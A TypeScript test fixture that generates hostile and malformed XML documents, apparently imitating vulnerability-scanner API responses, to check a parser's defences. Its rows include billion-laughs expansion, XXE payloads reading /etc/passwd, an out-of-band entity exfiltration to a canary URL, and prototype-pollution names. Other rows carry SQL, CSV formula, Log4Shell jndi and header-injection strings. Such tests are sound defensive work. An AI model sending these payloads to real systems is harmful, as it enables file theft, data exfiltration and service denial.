import type { Row } from './attacks.ts';

const ROOT = 'HOST_LIST_OUTPUT';
const OPEN = `<${ROOT}><RESPONSE><HOST_LIST>`;
const CLOSE = `</HOST_LIST></RESPONSE></${ROOT}>`;
const HOST = '<HOST><ID>1</ID></HOST>';
const DETECTION_OPEN =
  '<HOST_LIST_VM_DETECTION_OUTPUT><RESPONSE><HOST_LIST><HOST><ID>1</ID><DETECTION_LIST><DETECTION>';
const DETECTION_CLOSE = '</DETECTION></DETECTION_LIST></HOST></HOST_LIST></RESPONSE></HOST_LIST_VM_DETECTION_OUTPUT>';
const MANY = 1_200_000;

const doctype = (inside: string, use = '&x;') =>
  `<!DOCTYPE ${ROOT} ${inside}>${OPEN}<HOST><ID>${use}</ID></HOST>${CLOSE}`;
const hosts = (inside: string) => `${OPEN}<HOST>${inside}</HOST>${CLOSE}`;

export function xmlAttacks(canary: string): { readonly documents: Row[]; readonly detections: Row[] } {
  const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');
  const documents: Row[] = [
    // Entities: nothing is ever declared, expanded or fetched.
    ['billion laughs', 'QRY3004', doctype(`[<!ENTITY l0 "lol">${laughs}]`, '&l9;')],
    ['quadratic entity', 'QRY3004', doctype(`[<!ENTITY x "${'a'.repeat(50_000)}">]`, '&x;'.repeat(1000))],
    ['entity that names itself', 'QRY3004', doctype('[<!ENTITY x "&x;">]')],
    ['external entity, http', 'QRY3004', doctype(`[<!ENTITY x SYSTEM "${canary}/xxe">]`)],
    ['external entity, public', 'QRY3004', doctype(`[<!ENTITY x PUBLIC "p" "${canary}/xxe">]`)],
    ['external entity, file', 'QRY3004', doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]')],
    [
      'external entity, php filter',
      'QRY3004',
      doctype('[<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]'),
    ],
    ['external entity, expect', 'QRY3004', doctype('[<!ENTITY x SYSTEM "expect://id">]')],
    ['external entity, UNC path', 'QRY3004', doctype('[<!ENTITY x SYSTEM "\\\\127.0.0.1\\share\\x">]')],
    ['external entity, jar', 'QRY3004', doctype(`[<!ENTITY x SYSTEM "jar:${canary}/a.jar!/b">]`)],
    ['parameter entity', 'QRY3004', doctype(`[<!ENTITY % p SYSTEM "${canary}/dtd"> %p;]`, 'x')],
    [
      'parameter entity, out of band',
      'QRY3004',
      doctype(`[<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY x SYSTEM '${canary}/?%f;'>">%e;]`),
    ],
    ['external subset', 'QRY3001', doctype(`SYSTEM "${canary}/evil.dtd"`)],
    ['external subset, unused', 'read', doctype(`SYSTEM "${canary}/evil.dtd"`, '1')],
    ['external subset, public', 'read', doctype(`PUBLIC "-//x//EN" "${canary}/evil.dtd"`, '1')],
    ['external and internal subset', 'QRY3004', doctype(`SYSTEM "${canary}/evil.dtd" [<!ENTITY x "y">]`)],
    ['element declaration', 'QRY3004', doctype('[<!ELEMENT ID ANY>]', '1')],
    ['attribute defaults', 'QRY3004', doctype('[<!ATTLIST ID a CDATA "b">]', '1')],
    ['notation', 'QRY3004', doctype(`[<!NOTATION n SYSTEM "${canary}/n">]`, '1')],
    ['empty internal subset', 'QRY3004', doctype('[]', '1')],
    ['comment in the internal subset', 'QRY3004', doctype('[<!-- <!ENTITY x "y"> -->]', '1')],
    ['two document types', 'QRY3004', `<!DOCTYPE a><!DOCTYPE b>${hosts('<ID>1</ID>')}`],
    ['document type inside', 'QRY3004', `${OPEN}<!DOCTYPE x [<!ENTITY a "b">]>${CLOSE}`],
    ['document type without end', 'QRY3003', '<!DOCTYPE x SYSTEM "', ['a', MANY]],
    ['entity nobody declared', 'QRY3001', hosts('<ID>&nbsp;</ID>')],
    ['entity without end', 'QRY3001', hosts(`<ID>&${'a'.repeat(5000)};</ID>`)],
    ['bare ampersand', 'QRY3001', hosts('<ID>a & b</ID>')],
    ['character reference 0', 'read', hosts('<ID>&#0;</ID>')],
    ['character reference beyond Unicode', 'QRY3001', hosts('<ID>&#x110000;</ID>')],
    ['character reference with many zeros', 'QRY3001', hosts(`<ID>&#${'0'.repeat(100)}65;</ID>`)],
    ['half a surrogate by reference', 'read', hosts('<ID>1</ID><OS>&#xD800;</OS>')],
    ['many character references', 'read', `${OPEN}<HOST><OS>`, ['&#x41;', 300_000], `</OS></HOST>${CLOSE}`],
    [
      'includes by XInclude',
      'read',
      hosts(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${canary}/x" parse="text"/>`),
    ],
    ['style sheet', 'read', `<?xml-stylesheet href="${canary}/x.xsl"?>${hosts('<ID>1</ID>')}`],
    [
      'schema location',
      'read',
      `<${ROOT} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${canary}/x.xsd"><RESPONSE/></${ROOT}>`,
    ],
    // Shapes without end.
    ['nesting', 'QRY3003', `<${ROOT}>`, ['<a>', MANY]],
    ['nesting in a record', 'QRY3003', `${OPEN}<HOST>`, ['<a>', MANY]],
    ['nesting, closed', 'QRY3003', `${OPEN}<HOST>`, ['<a>', 50_000], ['</a>', 50_000], `</HOST>${CLOSE}`],
    ['closing tags alone', 'QRY3001', ['</a>', MANY]],
    ['element name', 'QRY3003', `${OPEN}<HOST><`, ['a', MANY], `/></HOST>${CLOSE}`],
    ['closing name', 'QRY3001', `${OPEN}<HOST><A></`, ['A', MANY], `></HOST>${CLOSE}`],
    ['attribute name', 'QRY3003', `${OPEN}<HOST><A `, ['b', MANY], `="1"/></HOST>${CLOSE}`],
    ['attribute value', 'read', `${OPEN}<HOST><A b="`, ['x', MANY], `"/></HOST>${CLOSE}`],
    ['attributes', 'QRY3003', hosts(`<A ${Array.from({ length: 20_000 }, (_, i) => `a${i}="1"`).join(' ')}/>`)],
    ['attribute twice', 'QRY3001', hosts('<A b="1" b="2"/>')],
    ['different names', 'QRY3003', hosts(Array.from({ length: 20_000 }, (_, i) => `<A${i}/>`).join(''))],
    ['elements of one record', 'QRY3003', `${OPEN}<HOST>`, ['<a/>', MANY], `</HOST>${CLOSE}`],
    [
      'text around the records',
      'QRY3003',
      `<${ROOT}><RESPONSE><DATETIME>`,
      ['x', MANY],
      `</DATETIME></RESPONSE></${ROOT}>`,
    ],
    ['elements around the records', 'QRY3003', `<${ROOT}><RESPONSE>`, ['<a/>', MANY], `</RESPONSE></${ROOT}>`],
    ['space around the records', 'read', OPEN, [' ', MANY], CLOSE],
    ['comments around the records', 'read', OPEN, ['<!-- keep-alive -->', 300_000], CLOSE],
    ['one comment', 'read', `${OPEN}<!--`, ['x', MANY], `-->${CLOSE}`],
    ['a comment without end', 'QRY3002', `${OPEN}<!--`, ['x', MANY]],
    ['dashes in a comment', 'QRY3001', `${OPEN}<!--`, ['-', MANY], `-->${CLOSE}`],
    ['an instruction', 'read', `${OPEN}<?x `, ['x', MANY], `?>${CLOSE}`],
    ['CDATA', 'read', `${OPEN}<HOST><A><![CDATA[`, ['x', MANY], `]]></A></HOST>${CLOSE}`],
    ['CDATA without end', 'QRY3002', `${OPEN}<HOST><A><![CDATA[`, [']', MANY]],
    ['pieces of CDATA', 'read', `${OPEN}<HOST><A>`, ['<![CDATA[x]]>', 200_000], `</A></HOST>${CLOSE}`],
    ['records', 'read', OPEN, [HOST, 100_000], CLOSE],
    ['ids', 'read', `<${ROOT}><RESPONSE><ID_SET>`, ['<ID>1</ID>', 300_000], `</ID_SET></RESPONSE></${ROOT}>`],
    // Names and numbers.
    ['__proto__ as an element', 'read', hosts('<ID>1</ID><__proto__><polluted>1</polluted></__proto__>')],
    [
      'constructor as an element',
      'read',
      hosts('<constructor><prototype><polluted>1</polluted></prototype></constructor>'),
    ],
    ['__proto__ as an attribute', 'read', hosts('<A __proto__="1">x</A>')],
    [
      '__proto__ around the records',
      'read',
      `<${ROOT}><RESPONSE><__proto__><polluted>1</polluted></__proto__></RESPONSE></${ROOT}>`,
    ],
    ['#text as a name', 'QRY3001', hosts('<#text>x</#text>')],
    ['a huge id', 'read', hosts(`<ID>${'9'.repeat(10_000)}</ID>`)],
    [
      'an id range backwards',
      'QRY3005',
      `<${ROOT}><RESPONSE><ID_SET><ID_RANGE>9-3</ID_RANGE></ID_SET></RESPONSE></${ROOT}>`,
    ],
    [
      'an id range without end',
      'QRY3005',
      `<${ROOT}><RESPONSE><ID_SET><ID_RANGE>1-99999999999999999999</ID_RANGE></ID_SET></RESPONSE></${ROOT}>`,
    ],
    [
      'an id that is none',
      'QRY3005',
      `<${ROOT}><RESPONSE><ID_SET><ID>1; DROP TABLE</ID></ID_SET></RESPONSE></${ROOT}>`,
    ],
    // Encodings.
    ['UTF-16, little-endian', 'QRY3001', Buffer.from(`\ufeff${hosts('<ID>1</ID>')}`, 'utf16le')],
    ['UTF-16 by declaration', 'QRY3001', `<?xml version="1.0" encoding="UTF-16"?>${hosts('<ID>1</ID>')}`],
    ['UTF-7 by declaration', 'QRY3001', `<?xml version="1.0" encoding="UTF-7"?>+ADw-${ROOT}+AD4-`],
    ['Latin-1 bytes', 'read', Buffer.from(hosts('<ID>1</ID><OS>\xe9\xff</OS>'), 'latin1')],
    ['overlong UTF-8', 'read', OPEN, '<HOST><OS>', Buffer.from([0xc0, 0xbc, 0xe0, 0x80, 0xbc]), `</OS></HOST>${CLOSE}`],
    ['NUL in a text', 'read', hosts('<OS>a\0b</OS>')],
    ['NUL in a name', 'QRY3001', hosts('<O\0S>a</O\0S>')],
    ['control characters', 'read', hosts('<OS>\u0001\u0008\u001b[31m\u007f</OS>')],
    ['right-to-left override', 'read', hosts('<OS>\u202egpj.exe\u2066</OS>')],
    ['line separators', 'read', hosts('<OS>a\u2028b\u2029c\u0085d</OS>')],
    ['byte order marks', 'QRY3001', `\ufeff\ufeff${hosts('<ID>1</ID>')}`],
    // Other documents.
    ['nothing', 'QRY3002'],
    ['space', 'QRY3002', '   \n'],
    ['HTML', 'QRY3001', '<!DOCTYPE html><html><head><meta charset="utf-8"><title>x</head></html>'],
    ['JSON', 'QRY3001', '{"HOST_LIST_OUTPUT":{}}'],
    ['text', 'QRY3001', 'Service Unavailable'],
    ['binary', 'QRY3001', Buffer.from(Array.from({ length: 256 }, (_, i) => i))],
    ['gzip not unpacked', 'QRY3001', Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3])],
    ['two roots', 'QRY3001', hosts('<ID>1</ID>') + hosts('<ID>2</ID>')],
    ['text behind the root', 'QRY3001', `${hosts('<ID>1</ID>')}x`],
    ['an element behind the root', 'QRY3001', `${hosts('<ID>1</ID>')}<x/>`],
    ['crossed tags', 'QRY3001', hosts('<A><B></A></B>')],
    ['a tag that never ends', 'QRY3002', `${OPEN}<HOST><A`],
    ['an attribute without quotes', 'QRY3001', hosts('<A b=1/>')],
    ['< in an attribute', 'QRY3001', hosts('<A b="<"/>')],
    [']]> in a text', 'QRY3001', hosts('<OS>]]></OS>')],
  ];
  const inDetection = (inside: string) => `${DETECTION_OPEN}<QID>1</QID>${inside}${DETECTION_CLOSE}`;
  const detections: Row[] = [
    ['results of megabytes', 'read', `${DETECTION_OPEN}<RESULTS>`, ['line\n', 600_000], `</RESULTS>${DETECTION_CLOSE}`],
    [
      'results that look like markup',
      'read',
      inDetection('<RESULTS><![CDATA[</RESULTS></DETECTION><DETECTION><QID>2</QID>]]></RESULTS>'),
    ],
    ['results escaped twice', 'read', inDetection('<RESULTS>&amp;lt;script&amp;gt;</RESULTS>')],
    [
      'results with quotes and backslashes',
      'read',
      `${DETECTION_OPEN}<RESULTS>`,
      ['"\\', 500_000],
      `</RESULTS>${DETECTION_CLOSE}`,
    ],
    [
      'results of control characters',
      'read',
      `${DETECTION_OPEN}<RESULTS>`,
      ['\u0001', 500_000],
      `</RESULTS>${DETECTION_CLOSE}`,
    ],
    [
      'results of stray bytes',
      'read',
      `${DETECTION_OPEN}<RESULTS>`,
      [Buffer.from([0xff]), 500_000],
      `</RESULTS>${DETECTION_CLOSE}`,
    ],
    [
      'results of carriage returns',
      'read',
      `${DETECTION_OPEN}<RESULTS>`,
      ['\r', 500_000],
      `</RESULTS>${DETECTION_CLOSE}`,
    ],
    ['results with a formula', 'read', inDetection("<RESULTS>=cmd|' /C calc'!A0</RESULTS>")],
    ['results that split a header', 'read', inDetection('<RESULTS>x\r\nX-Injected: 1\r\n\r\nbody</RESULTS>')],
    ['results that split a log line', 'read', inDetection('<RESULTS>x\n{"level":"error"}</RESULTS>')],
    ['results with a template', 'read', inDetection('<RESULTS>${jndi:ldap://127.0.0.1/x} {{7*7}} %n%s</RESULTS>')],
    ['results with a script', 'read', inDetection('<RESULTS><![CDATA[<script>fetch("/x")</script>]]></RESULTS>')],
    ['a field a hundred thousand times', 'read', DETECTION_OPEN, ['<QID>1</QID>', 100_000], DETECTION_CLOSE],
    [
      'a list inside a list',
      'read',
      inDetection('<DETECTION_LIST><DETECTION><QID>2</QID></DETECTION></DETECTION_LIST>'),
    ],
    ['text between fields', 'read', inDetection('x<SSL>1</SSL>y<SSL>2</SSL>z')],
    ['a list of hosts inside a host', 'read', inDetection('<HOST_LIST><HOST><ID>9</ID></HOST></HOST_LIST>')],
    ['an entity in the middle', 'QRY3001', inDetection('<RESULTS>&x;</RESULTS>')],
    ['the answer cut inside results', 'QRY3002', `${DETECTION_OPEN}<RESULTS>abc`],
    ['the answer cut behind the list', 'QRY3002', inDetection('').slice(0, -60)],
  ];
  return { documents, detections };
}
